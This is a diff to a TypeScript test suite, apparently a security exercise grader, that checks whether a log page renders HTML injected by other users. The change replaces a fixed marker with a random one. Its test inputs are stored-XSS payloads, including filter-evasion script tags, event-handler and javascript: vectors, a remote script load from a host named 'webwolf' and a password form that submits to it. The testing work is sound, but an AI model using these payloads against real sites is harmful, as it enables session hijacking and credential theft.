@@ -56,12 +56,16 @@ async function failIfSeen(
   return undefined;
 }
 
-async function failIfMarkup(trial: Trial<Facts>, texts: readonly string[]): Promise<Failure | undefined> {
+async function failIfMarkup(
+  trial: Trial<Facts>,
+  textsWith: (name: string) => readonly string[],
+): Promise<Failure | undefined> {
+  const name = `k${trial.random.integer(10_000, 99_999)}`;
   const client = await reader(trial);
-  for (const text of texts) {
+  for (const text of textsWith(name)) {
     const sent = await attempt(trial.client(), text);
     const page = await client.open('/log');
-    if (isMarkup(page.response.body, 'k9281'))
+    if (isMarkup(page.response.body, name))
       return failure(
         sent,
         'Sau yêu cầu này, trang nhật ký chứa thẻ HTML do người lạ viết. Ai mở trang sẽ chạy nó.',
@@ -217,22 +221,22 @@ export const checks = defineChecks<Facts>({
       id: 'script',
       kind: 'attack',
       title: { vi: 'Mã chạy khi có người mở nhật ký', en: 'Code that runs when somebody opens the log' },
-      run: (trial) => failIfMarkup(trial, ['<script>k9281()</script>', 'x<script>\nk9281()</script>']),
+      run: (trial) => failIfMarkup(trial, (name) => [`<script>${name}()</script>`, `x<script>\n${name}()</script>`]),
     },
     {
       id: 'other-markup',
       kind: 'attack',
       title: { vi: 'Thẻ HTML khác', en: 'Other markup' },
       run: (trial) =>
-        failIfMarkup(trial, [
-          '<ScRiPt>k9281()</sCrIpT>',
-          '<script >k9281()</script >',
-          '<scr<script>ipt>k9281()</scr</script>ipt>',
-          '<script src="http://webwolf/k9281"></script>',
-          '<img src=x onerror=k9281()>',
-          '</pre><svg onload="k9281()">',
-          '<a href="javascript:k9281()">x</a>',
-          '<form action="http://webwolf/k9281"><input name="password"></form>',
+        failIfMarkup(trial, (name) => [
+          `<ScRiPt>${name}()</sCrIpT>`,
+          `<script >${name}()</script >`,
+          `<scr<script>ipt>${name}()</scr</script>ipt>`,
+          `<script src="http://webwolf/${name}"></script>`,
+          `<img src=x onerror=${name}()>`,
+          `</pre><svg onload="${name}()">`,
+          `<a href="javascript:${name}()">x</a>`,
+          `<form action="http://webwolf/${name}"><input name="password"></form>`,
         ]),
     },
     {
